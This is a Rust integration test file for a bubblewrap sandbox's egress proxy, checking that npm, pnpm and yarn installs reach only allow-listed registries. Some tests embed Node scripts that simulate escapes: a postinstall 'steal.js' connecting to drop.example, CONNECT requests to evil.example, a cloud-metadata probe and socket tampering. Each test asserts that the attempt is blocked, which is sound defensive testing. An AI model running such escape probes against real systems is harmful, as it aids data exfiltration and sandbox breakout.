//! The way out of an install under bubblewrap, for real: nothing but a proxy,
//! and package managers through it against the registry of this machine's own
//! configuration.

use std::net::TcpListener;

use selfopt_core::{
    CancelFlag, CommandSpec, Enforcement, HostDecision, HostPattern, HostUse, Millis, Network,
    NetworkAccess, NetworkUse, NoLog, Outcome, Phase, Sandbox as _, StepStatus, Workspace,
};

use crate::fixture::{CancelOnOutput, Fixture, command, run_spec};

/// Two small packages, one of which needs the other.
const MANIFEST: &str = r#"{"name":"x","version":"1.0.0","dependencies":{"is-odd":"3.0.1"}}"#;

fn install_from(hosts: Vec<HostPattern>, cmd: &str) -> CommandSpec {
    CommandSpec { phase: Phase::Install, network: Network::AllowList(hosts), ..command(cmd) }
}

fn install(cmd: &str) -> CommandSpec {
    install_from(Vec::new(), cmd)
}

async fn run_install(workspace: &dyn Workspace, spec: CommandSpec) -> (Outcome, NetworkUse) {
    let outcome = run_spec(workspace, spec).await;
    let network = outcome.network.clone().expect("an install has a network");
    (outcome, network)
}

/// Runs an install that must succeed, and reach listed hosts only.
async fn installs(workspace: &dyn Workspace, spec: CommandSpec) -> NetworkUse {
    let (outcome, network) = run_install(workspace, spec).await;
    assert!(outcome.succeeded(), "{}\n{}\n{network:?}", outcome.status, outcome.text());
    assert_eq!((network.access, network.more), (NetworkAccess::AllowList, 0));
    assert!(!network.hosts.is_empty(), "nothing was asked for: {}", outcome.text());
    for row in &network.hosts {
        assert!(network.allowed.iter().any(|host| host.covers(&row.host)), "{row:?}");
        assert_eq!((row.port, &row.decision), (443, &HostDecision::Allowed), "{row:?}");
        assert!(row.sent.0 > 100 && row.received.0 > 1000, "{row:?}");
    }
    network
}

fn row<'a>(network: &'a NetworkUse, host: &str) -> &'a HostUse {
    let row = network.hosts.iter().find(|row| row.host == host);
    row.unwrap_or_else(|| panic!("{host}: {network:?}"))
}

/// A workspace with a package manager of its own, which npm installs.
async fn with_tool(fixture: &Fixture, tool: &str) -> Box<dyn Workspace> {
    let manifest = r#"{"name":"tools","version":"1.0.0"}"#;
    let workspace =
        fixture.open(&[("package.json", MANIFEST), ("tools/package.json", manifest)]).await;
    installs(&*workspace, install(&format!("cd tools && npm install {tool}"))).await;
    workspace
}

#[tokio::test]
async fn npm_installs_through_the_proxy() {
    let fixture = Fixture::bubblewrap();
    let workspace = fixture.open(&[("package.json", MANIFEST)]).await;
    let cmd = "npm install --prefer-online && rm -r node_modules && npm ci --prefer-online && test -d node_modules/is-number";
    installs(&*workspace, install(cmd)).await;
}

#[tokio::test]
async fn pnpm_installs_through_the_proxy() {
    let fixture = Fixture::bubblewrap();
    let workspace = with_tool(&fixture, "pnpm@9.15.0").await;
    let cmd = "node tools/node_modules/pnpm/bin/pnpm.cjs install && test -d node_modules/.pnpm/is-number@6.0.0";
    installs(&*workspace, install(cmd)).await;
}

#[tokio::test]
async fn yarn_classic_installs_once_its_own_registry_is_listed() {
    let fixture = Fixture::bubblewrap();
    let workspace = with_tool(&fixture, "yarn@1.22.22").await;
    let yarn = "node tools/node_modules/yarn/bin/yarn.js";
    let host = host_printed(&*workspace, &format!("{yarn} config get registry")).await;
    let cmd = format!("{yarn} install && test -d node_modules/is-number");
    let (outcome, network) = run_install(&*workspace, install(&cmd)).await;
    assert!(!outcome.succeeded(), "{}", outcome.text());
    assert_eq!(row(&network, host.as_str()).decision, HostDecision::NotListed);
    installs(&*workspace, install_from(vec![host], &cmd)).await;
}

#[tokio::test]
async fn yarn_berry_installs_once_its_own_registry_is_listed() {
    let fixture = Fixture::bubblewrap();
    let workspace = with_tool(&fixture, "@yarnpkg/cli-dist@4.5.3").await;
    let yarn = "node tools/node_modules/@yarnpkg/cli-dist/bin/yarn.js";
    let host = host_printed(&*workspace, &format!("{yarn} config get npmRegistryServer")).await;
    // `CI=1` makes it refuse to write a lock file.
    let cmd = format!(
        "touch yarn.lock && YARN_ENABLE_IMMUTABLE_INSTALLS=0 YARN_NODE_LINKER=node-modules YARN_ENABLE_GLOBAL_CACHE=0 YARN_ENABLE_TELEMETRY=0 {yarn} install && test -d node_modules/is-number"
    );
    let (outcome, network) = run_install(&*workspace, install(&cmd)).await;
    assert!(!outcome.succeeded(), "{}", outcome.text());
    assert_eq!(row(&network, host.as_str()).decision, HostDecision::NotListed);
    installs(&*workspace, install_from(vec![host], &cmd)).await;
}

/// The host of an address that a command prints.
async fn host_printed(workspace: &dyn Workspace, cmd: &str) -> HostPattern {
    let outcome = run_spec(workspace, CommandSpec { phase: Phase::Install, ..command(cmd) }).await;
    let text = outcome.text();
    let host = text.split_once("https://").and_then(|(_, rest)| rest.split(['/', '\n']).next());
    HostPattern::parse(host.unwrap_or_default()).unwrap_or_else(|error| panic!("{error}: {text}"))
}

#[tokio::test]
async fn only_installs_have_a_way_out() {
    let fixture = Fixture::bubblewrap();
    let workspace = fixture.open(&[]).await;
    let look = "ls /run /etc/resolv.conf; env | grep -i -e proxy -e GIT_CONFIG; true";
    let listed = || Network::AllowList(Vec::new());
    for (phase, network) in [
        (Phase::Build, listed()),
        (Phase::Typecheck, listed()),
        (Phase::Test, listed()),
        (Phase::Benchmark, listed()),
        (Phase::Install, Network::None),
    ] {
        let outcome = run_spec(&*workspace, CommandSpec { phase, network, ..command(look) }).await;
        assert!(outcome.succeeded() && outcome.network.is_none(), "{:?}", outcome.network);
        assert!(!outcome.text().contains("selfopt"), "{phase}: {}", outcome.text());
        assert!(!outcome.text().to_lowercase().contains("proxy="), "{phase}: {}", outcome.text());
    }
    let outcome =
        run_spec(&*workspace, install("ls /run; ls /etc/resolv.conf; echo $HTTPS_PROXY")).await;
    assert_eq!(String::from_utf8_lossy(&outcome.stdout), "selfopt\nhttp://127.0.0.1:28443\n");
}

#[tokio::test]
async fn nothing_but_the_proxy_is_reached() {
    let fixture = Fixture::bubblewrap();
    let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let script = format!(
        "const net = require('net'), dns = require('dns'), fs = require('fs');
const say = (what) => (said) => console.log(what, said.code || said);
dns.lookup('registry.example', say('dns'));
net.connect({port}, '127.0.0.1').on('error', say('host'));
net.connect(443, '203.0.113.1').on('error', say('outside'));
net.connect(80, '169.254.169.254').on('error', say('metadata'));
console.log('interfaces', Object.keys(require('os').networkInterfaces()).join());
try {{ fs.unlinkSync('/run/selfopt/socket') }} catch (error) {{ say('unlink')(error) }}
try {{ fs.chmodSync('/run/selfopt/socket', 0o777) }} catch (error) {{ say('chmod')(error) }}
"
    );
    let workspace = fixture.open(&[("try.js", &script)]).await;
    let (outcome, network) = run_install(&*workspace, install("node try.js | sort")).await;
    insta::assert_snapshot!(outcome.text(), @r"
    chmod EROFS
    dns EAI_AGAIN
    host ECONNREFUSED
    interfaces lo
    metadata ENETUNREACH
    outside ENETUNREACH
    unlink EROFS
    ");
    assert_eq!(network.hosts, []);
}

#[tokio::test]
async fn who_goes_around_the_bridge_meets_the_same_proxy() {
    let fixture = Fixture::bubblewrap();
    let script = "const net = require('net');
for (const target of ['evil.example:443', '127.0.0.1:443', '[::1]:443', 'localhost:443', process.argv[2] + ':22']) {
  const socket = net.connect('/run/selfopt/socket', () => socket.write(`CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`));
  socket.on('data', (data) => console.log(target.replace(process.argv[2], 'registry'), String(data).slice(9, 12)));
}";
    let workspace = fixture.open(&[("try.js", script)]).await;
    let cmd =
        "host=$(npm config get registry | sed 's|https://||; s|/.*||'); node try.js $host | sort";
    let (outcome, network) = run_install(&*workspace, install(cmd)).await;
    assert_eq!(
        outcome.text(),
        "127.0.0.1:443 403\n[::1]:443 403\nevil.example:443 403\nlocalhost:443 403\nregistry:22 403\n"
    );
    assert_eq!(row(&network, "evil.example").decision, HostDecision::NotListed);
    assert_eq!(network.hosts.len(), 5, "{network:?}");
}

#[tokio::test]
async fn install_scripts_are_behind_the_proxy_too() {
    let fixture = Fixture::bubblewrap();
    let manifest = r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}"#;
    let script = "const http = require('http');
const request = http.request({ host: '127.0.0.1', port: 28443, method: 'CONNECT', path: 'drop.example:443' });
request.on('connect', (answer) => { console.log('answered', answer.statusCode); process.exit(0); });
request.end();";
    let workspace = fixture.open(&[("package.json", manifest), ("steal.js", script)]).await;
    let cmd = "npm install --foreground-scripts";
    let (outcome, network) = run_install(&*workspace, install(cmd)).await;
    assert!(outcome.text().contains("answered 403"), "{}", outcome.text());
    assert_eq!(row(&network, "drop.example").decision, HostDecision::NotListed);
}

#[tokio::test]
async fn a_tunnel_carries_the_name_that_it_was_granted_for() {
    let fixture = Fixture::bubblewrap();
    // A registry that is listed, asked for in the name of another host.
    let script = "const http = require('http'), tls = require('tls');
const host = process.argv[2];
const request = http.request({ host: '127.0.0.1', port: 28443, method: 'CONNECT', path: host + ':443' });
request.on('connect', (answer, socket) => {
  const secure = tls.connect({ socket, servername: process.argv[3] || host, rejectUnauthorized: false });
  secure.on('secureConnect', () => { console.log('secure'); process.exit(0); });
  secure.on('error', () => { console.log('cut'); process.exit(0); });
});
request.end();";
    let workspace = fixture.open(&[("try.js", script)]).await;
    let host = "host=$(npm config get registry | sed 's|https://||; s|/.*||')";
    let (outcome, network) = run_install(
        &*workspace,
        install(&format!("{host}; node try.js $host; node try.js $host other.example")),
    )
    .await;
    assert_eq!(outcome.text(), "secure\ncut\n");
    let decisions: Vec<_> = network.hosts.iter().map(|row| row.decision.clone()).collect();
    let reason = "its TLS ClientHello names another host, `other.example`".to_owned();
    assert_eq!(decisions, [HostDecision::Allowed, HostDecision::Refused { reason }]);
}

#[tokio::test]
async fn commands_end_as_they_would_without_the_bridge() {
    let fixture = Fixture::bubblewrap();
    let workspace = fixture.open(&[]).await;
    for cmd in [
        "true",
        "exit 7",
        "echo out; echo err >&2; exit 3",
        "kill -KILL $$",
        "kill -TERM $$",
        "kill -SEGV $$",
        "sh -c 'kill -KILL $$'",
        "nonsense-that-is-not-there",
        "cat; echo end",
        "echo \"it's\" '$HOME' \\\"x\\\"",
        "(sleep 3599 &) ; echo left",
    ] {
        let bare = CommandSpec { network: Network::None, ..install(cmd) };
        let (bare, bridged) =
            (run_spec(&*workspace, bare).await, run_spec(&*workspace, install(cmd)).await);
        assert_eq!(bridged.status, bare.status, "{cmd}: {}", bridged.text());
        assert_eq!(bridged.stdout, bare.stdout, "{cmd}");
    }
}

#[tokio::test]
async fn limits_hold_behind_the_bridge() {
    let fixture = Fixture::bubblewrap();
    let cancel = CancelFlag::default();
    let workspace = fixture.open_with(&[], cancel.clone()).await;
    // Asked for before the clock of the next command runs.
    run_spec(&*workspace, install("true")).await;
    let mut slow = install("trap '' TERM; sleep 3598 & wait");
    slow.limits.wall = Millis(1500);
    assert_eq!(run_spec(&*workspace, slow).await.status, StepStatus::TimedOut);
    let mut hog =
        install("node -e 'const kept = []; for (;;) kept.push(Buffer.alloc(1 << 20, 1))'");
    hog.limits.memory = selfopt_core::Bytes::from_mib(300);
    assert_eq!(run_spec(&*workspace, hog).await.status, StepStatus::OutOfMemory);
    let busy = install("i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done");
    assert!(run_spec(&*workspace, busy).await.usage.cpu_us > 50_000);
    let sink = CancelOnOutput(cancel);
    let outcome = workspace.run(install("echo here; sleep 3597"), &sink).await.expect("an outcome");
    assert_eq!(outcome.status, StepStatus::Cancelled);
}

#[tokio::test]
async fn nothing_of_the_proxy_is_left() {
    let fixture = Fixture::bubblewrap();
    let workspace = fixture.open(&[]).await;
    run_spec(&*workspace, install("true")).await;
    let works: Vec<_> = std::fs::read_dir(fixture.base().join("work")).expect("listed").collect();
    let [Ok(work)] = &works[..] else { panic!("{works:?}") };
    assert!(!work.path().join("egress").exists());
    // What a killed process leaves is in the way of nothing.
    std::fs::create_dir(work.path().join("egress")).expect("made");
    std::fs::write(work.path().join("egress/socket"), "").expect("written");
    assert!(run_spec(&*workspace, install("true")).await.succeeded());
}

#[tokio::test]
async fn the_list_is_lifted_by_the_user_alone_and_that_is_told() {
    let fixture = Fixture::bubblewrap();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let cmd = format!(
        "node -e \"require('net').connect({port}, '127.0.0.1').on('connect', () => {{ console.log('reached'); process.exit() }})\""
    );
    let open = |phase| CommandSpec { phase, network: Network::Open, ..command(&cmd) };
    let workspace = fixture.open(&[]).await;
    let error = workspace.run(open(Phase::Install), &NoLog).await.expect_err("not opened");
    assert!(error.to_string().contains("with_open_installs"), "{error}");
    let guarantee = fixture.sandbox.probe().await.expect("works").guarantees["network"].clone();
    assert_eq!(guarantee.level, Enforcement::Enforced);

    let fixture = Fixture { sandbox: fixture.sandbox.with_open_installs(), dir: fixture.dir };
    let workspace = fixture.open(&[]).await;
    let (outcome, network) = run_install(&*workspace, open(Phase::Install)).await;
    assert_eq!(outcome.text(), "reached\n");
    assert_eq!((network.access, network.hosts.len()), (NetworkAccess::Open, 0));
    assert!(!run_spec(&*workspace, open(Phase::Test)).await.succeeded());
    let guarantee = fixture.sandbox.probe().await.expect("works").guarantees["network"].clone();
    assert_eq!(guarantee.level, Enforcement::None);
    assert!(guarantee.reason.contains("network = \"open\""), "{}", guarantee.reason);
}

#[tokio::test]
async fn plain_processes_say_that_they_are_open() {
    let fixture = Fixture::process();
    let workspace = fixture.open(&[]).await;
    let (outcome, network) = run_install(&*workspace, install("echo $HTTPS_PROXY; exit 3")).await;
    assert_eq!(outcome.status, StepStatus::Exited { code: 3 });
    assert_eq!(network.access, NetworkAccess::Open);
    let isolation = fixture.sandbox.probe().await.expect("works");
    assert_eq!(isolation.guarantees["network"].level, Enforcement::None);
}
